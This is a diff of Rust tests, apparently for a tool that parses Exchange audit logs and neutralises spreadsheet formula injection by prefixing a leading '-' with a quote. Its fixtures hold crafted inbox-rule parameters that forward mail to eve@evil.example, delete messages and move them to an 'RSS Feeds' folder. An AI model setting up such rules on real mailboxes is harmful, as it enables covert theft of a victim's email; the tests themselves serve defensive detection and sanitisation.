@@ -281,8 +281,9 @@ fn admin_cmdlets_with_record_types_admin() {
         .expect("the crafted New-InboxRule");
     assert_eq!(
         rule[SUBJECT],
-        "-Mailbox test1 -Name 'Move to RSS' -ForwardTo eve@evil.example -DeleteMessage True \
-         -MoveToFolder 'RSS Feeds'"
+        "'-Mailbox test1 -Name 'Move to RSS' -ForwardTo eve@evil.example -DeleteMessage True \
+         -MoveToFolder 'RSS Feeds'",
+        "a leading '-' is neutralised for Excel"
     );
     assert_eq!(rule[OWNER], "test1\\Move to RSS", "ObjectId");
     assert_eq!(rule[RESULT], "True");
@@ -345,7 +346,7 @@ fn real_json_lines_exports() {
         .expect("New-InboxRule");
     assert_eq!(
         rule[SUBJECT],
-        "-AlwaysDeleteOutlookRulesBlob False -Force False -Name . -DeleteMessage True \
+        "'-AlwaysDeleteOutlookRulesBlob False -Force False -Name . -DeleteMessage True \
          -MarkAsRead True -StopProcessingRules True"
     );
 }
